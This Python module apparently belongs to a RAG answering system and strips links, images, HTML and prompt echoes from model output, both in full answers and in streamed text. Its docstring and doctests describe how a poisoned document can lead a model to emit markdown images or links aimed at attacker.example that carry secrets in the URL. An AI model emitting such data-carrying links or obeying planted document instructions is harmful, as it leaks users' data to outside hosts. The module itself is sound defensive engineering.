"""Answer text carries no links, images or markup that documents planted: what is not allow-listed is removed.

Documents are untrusted. A poisoned one can ask the model to emit a link or an image whose URL carries data
(``![x](https://attacker.example/?q=...)``): rendered, it leaks the data without a click. Every answer, whatever
generated it, goes through :func:`clean_answer` before it is returned, and streamed text through
:class:`StreamSanitizer`, so no link, image or HTML tag reaches the user unless its host is in
``RAG_LINK_ALLOWLIST``.

>>> clean_answer("See ![x](https://attacker.example/p.png?d=secret) now [1].")
'See (image removed) now [1].'
>>> clean_answer("Read [the report](http://attacker.example/?q=1) [2].")
'Read the report (link removed) [2].'
>>> clean_answer("Read [the report](https://news.example.com/a) [2].", ["news.example.com"])
'Read [the report](https://news.example.com/a) [2].'
"""

from __future__ import annotations

import logging
import re
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from urllib.parse import urlsplit

log = logging.getLogger(__name__)

LINK_REMOVED = "(link removed)"
IMAGE_REMOVED = "(image removed)"
WITHHELD = "(withheld: it repeated the answering instructions)"

_SCHEMES = r"(?:https?|ftp|file|data|javascript|vbscript|mailto|blob|ws|wss)"
# A raw URL: a scheme with something after the colon, or a bare www. host.
_URL = re.compile(rf"(?i)\b{_SCHEMES}:(?://)?[^\s<>\"'`]+|\bwww\.[^\s<>\"'`]+")
_TRAILING = ".,;:!?)]}'\""
# Markdown images and links, inline (``[t](u "title")``) or with angle brackets; one level of parentheses in u.
_DEST = r"\(\s*(<[^<>\n]*>|[^()\s]*(?:\([^()\s]*\)[^()\s]*)*)(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*\)"
_MD_IMAGE = re.compile(r"!\[([^\[\]\n]*)\]" + _DEST)
_MD_LINK = re.compile(r"\[([^\[\]\n]*)\]" + _DEST)
_MD_REF_DEF = re.compile(r"(?im)^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*\S+.*$")
_MD_REF_IMAGE = re.compile(r"!\[([^\[\]\n]*)\]\[[^\[\]\n]*\]")
_MD_REF_LINK = re.compile(r"\[([^\[\]\n]*[^\[\]\d\s,][^\[\]\n]*)\]\[([^\[\]\n]*[^\[\]\d\s,][^\[\]\n]*)?\]")
_AUTOLINK = re.compile(r"<((?:[A-Za-z][A-Za-z0-9+.-]{1,31}:|www\.)[^<>\s]*)>")
_HTML_BLOCK = re.compile(r"(?is)<(script|style|iframe|object|embed|svg|math|template|noscript)\b.*?(?:</\1\s*>|$)")
_HTML_COMMENT = re.compile(r"(?s)<!--.*?(?:-->|$)")
_HTML_IMG = re.compile(r"(?i)<\s*(img|image|picture|source|video|audio|input)\b[^<>]*>?")
_HTML_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9:-]*(?:\s[^<>]*)?/?>")


def parse_allowlist(value: str | Iterable[str] | None) -> list[str]:
    """Hosts from ``RAG_LINK_ALLOWLIST`` (comma- or space-separated; a leading ``*.`` or ``.`` is dropped)."""
    if value is None:
        return []
    items = re.split(r"[\s,]+", value) if isinstance(value, str) else list(value)
    hosts = []
    for item in items:
        host = item.strip().lower()
        if "//" in host:
            host = urlsplit(host).hostname or ""
        host = host.lstrip("*").lstrip(".").rstrip("/")
        if host:
            hosts.append(host)
    return hosts


def allowed(url: str, allowlist: Sequence[str]) -> bool:
    """An absolute http(s) URL whose host is an allow-listed host or one of its subdomains."""
    if not allowlist:
        return False
    url = url.strip().strip("<>")
    try:
        parts = urlsplit(url)
        host = (parts.hostname or "").lower()
    except ValueError:
        return False
    if parts.scheme.lower() not in ("http", "https") or not host or parts.username or parts.password:
        return False
    return any(host == h or host.endswith("." + h) for h in allowlist)


@dataclass
class Report:
    """What :func:`clean_answer` removed."""

    links: int = 0
    images: int = 0
    tags: int = 0
    withheld: int = 0
    samples: list[str] = field(default_factory=list)

    @property
    def total(self) -> int:
        return self.links + self.images + self.tags + self.withheld


def clean_answer(
    text: str, allowlist: Sequence[str] = (), instructions: str | None = None, report: Report | None = None
) -> str:
    """``text`` with every non-allow-listed link, image and HTML tag removed (link text kept as plain text).

    With ``instructions`` (the answer prompt), sentences that repeat them are withheld too.
    """
    rep = report if report is not None else Report()

    def note(kind: str, raw: str) -> None:
        setattr(rep, kind, getattr(rep, kind) + 1)
        if len(rep.samples) < 5:
            rep.samples.append(raw[:120])

    def image(m: re.Match[str]) -> str:
        if allowed(m.group(2), allowlist):
            return m.group(0)
        note("images", m.group(0))
        return IMAGE_REMOVED

    def link(m: re.Match[str]) -> str:
        if allowed(m.group(2), allowlist):
            return m.group(0)
        note("links", m.group(0))
        label = m.group(1).strip()
        if re.fullmatch(r"\d{1,3}(?:\s*,\s*\d{1,3})*", label):  # "[1](url)": keep the citation marker
            return f"[{label}]"
        return f"{label} {LINK_REMOVED}".strip() if label else LINK_REMOVED

    def autolink(m: re.Match[str]) -> str:
        if allowed(m.group(1), allowlist):
            return m.group(1)
        note("links", m.group(0))
        return LINK_REMOVED

    def drop_block(m: re.Match[str]) -> str:
        note("tags", m.group(0))
        return ""

    def html_image(m: re.Match[str]) -> str:
        note("images", m.group(0))
        return IMAGE_REMOVED

    def ref_definition(m: re.Match[str]) -> str:
        note("links", m.group(0))
        return ""

    def ref_link(m: re.Match[str]) -> str:
        note("links", m.group(0))
        return m.group(1)

    def tag(m: re.Match[str]) -> str:
        note("tags", m.group(0))
        return ""

    def url(m: re.Match[str]) -> str:
        raw = m.group(0)
        tail = ""
        while raw and raw[-1] in _TRAILING:
            if raw[-1] == ")" and raw.count("(") >= raw.count(")"):
                break
            raw, tail = raw[:-1], raw[-1] + tail
        if allowed(raw, allowlist):
            return m.group(0)
        note("links", raw)
        return LINK_REMOVED + tail

    out = text or ""
    out = _HTML_COMMENT.sub(drop_block, out)
    out = _HTML_BLOCK.sub(drop_block, out)
    out = _MD_IMAGE.sub(image, out)
    out = _MD_REF_IMAGE.sub(html_image, out)
    out = _MD_LINK.sub(link, out)
    out = _MD_REF_DEF.sub(ref_definition, out)
    out = _MD_REF_LINK.sub(ref_link, out)
    out = _AUTOLINK.sub(autolink, out)
    out = _HTML_IMG.sub(html_image, out)
    out = _HTML_TAG.sub(tag, out)
    out = _protect_allowed(out, allowlist, url)
    if instructions:
        out = withhold_instructions(out, instructions, rep)
    if not rep.total:
        return out  # nothing found: the text is returned unchanged
    return re.sub(r"[ \t]{2,}", " ", out).strip()


def _protect_allowed(text: str, allowlist: Sequence[str], url_sub: Callable[[re.Match[str]], str]) -> str:
    """Apply the raw-URL rule outside allow-listed Markdown links and images (which keep their URL)."""
    kept = [m.span() for m in _MD_LINK.finditer(text) if allowed(m.group(2), allowlist)] if allowlist else []
    if not kept:
        return _URL.sub(url_sub, text)
    parts, last = [], 0
    for s, e in kept:
        parts.append(_URL.sub(url_sub, text[last:s]))
        parts.append(text[s:e])
        last = e
    parts.append(_URL.sub(url_sub, text[last:]))
    return "".join(parts)


# --------------------------------------------------------------------------- instruction echoes

_WORD = re.compile(r"[a-z0-9']+")
SHINGLE = 6


def _shingles(text: str) -> set[tuple[str, ...]]:
    words = _WORD.findall(text.lower())
    return {tuple(words[i : i + SHINGLE]) for i in range(len(words) - SHINGLE + 1)}


def withhold_instructions(text: str, instructions: str, report: Report | None = None) -> str:
    """Sentences that repeat six or more consecutive words of the answering instructions are withheld."""
    rules = _shingles(re.sub(r"\{[a-z_]+\}", " ", instructions))
    if not rules:
        return text

    def repl(m: re.Match[str]) -> str:
        sentence = m.group(0)
        if not _shingles(sentence) & rules:
            return sentence
        if report is not None:
            report.withheld += 1
            if len(report.samples) < 5:
                report.samples.append(sentence[:120])
        return WITHHELD

    out = _SENTENCE.sub(repl, text)
    return re.sub(rf"{re.escape(WITHHELD)}(?:\s*{re.escape(WITHHELD)})+", WITHHELD, out)


_SENTENCE = re.compile(r"[^.!?\n]+(?:[.!?]+(?:\s*\[\d{1,3}(?:\s*,\s*\d{1,3})*\])*|$)", re.M)


# --------------------------------------------------------------------------- streaming

# A citation marker is settled at its "]"; other brackets once what follows shows they are not a link.
_FINISHED_BRACKET = re.compile(r"\[\d{1,3}(?:\s*,\s*\d{1,3})*\]|\[[^\[\]\n]*\](?:" + _DEST + r"|[^(\[:])")
_FINISHED_ANGLE = re.compile(r"<[^<>\n]*>")


def _hold_from(raw: str) -> int:
    """Where the text that may still become a link, image or tag begins (``len(raw)`` when nothing is open)."""
    ws = max(raw.rfind(" "), raw.rfind("\n"), raw.rfind("\t"))
    cut = ws + 1
    for i in (m.start() for m in re.finditer(r"[\[<]", raw[:cut])):
        newline = raw.find("\n", i)
        if raw[i] == "[":
            done = _FINISHED_BRACKET.match(raw, i)
            if (done and done.end() <= cut) or (newline != -1 and "]" not in raw[i:newline]):
                continue
            return i - 1 if i > 0 and raw[i - 1] == "!" else i
        nxt = raw[i + 1 : i + 2]
        if nxt and (nxt.isspace() or nxt.isdigit() or nxt in "=<"):
            continue  # "x < y", "<3": not markup
        done = _FINISHED_ANGLE.match(raw, i)
        if done and done.end() <= cut and not _HTML_BLOCK.match(raw, i):
            continue
        return i
    return cut


class StreamSanitizer:
    """Cleans streamed deltas: text that could still turn into a link, image or tag is held back until it settles.

    The concatenation of what :meth:`feed` and :meth:`flush` return is always a cleaned text, so no link or image
    is ever shown, even for a moment.
    """

    def __init__(self, allowlist: Sequence[str] = ()) -> None:
        self.allowlist = list(allowlist)
        self.raw = ""
        self.sent = ""

    def _emit(self, upto: int) -> str:
        clean = clean_answer(self.raw[:upto], self.allowlist)
        if not clean.startswith(self.sent):
            return ""  # the cleaned text changed behind what was shown: the final answer replaces it
        new, self.sent = clean[len(self.sent) :], clean
        return new

    def feed(self, delta: str) -> str:
        """The cleaned text that can be shown now."""
        self.raw += delta
        return self._emit(_hold_from(self.raw))

    def flush(self) -> str:
        """The rest of the cleaned text, at the end of the stream."""
        return self._emit(len(self.raw))
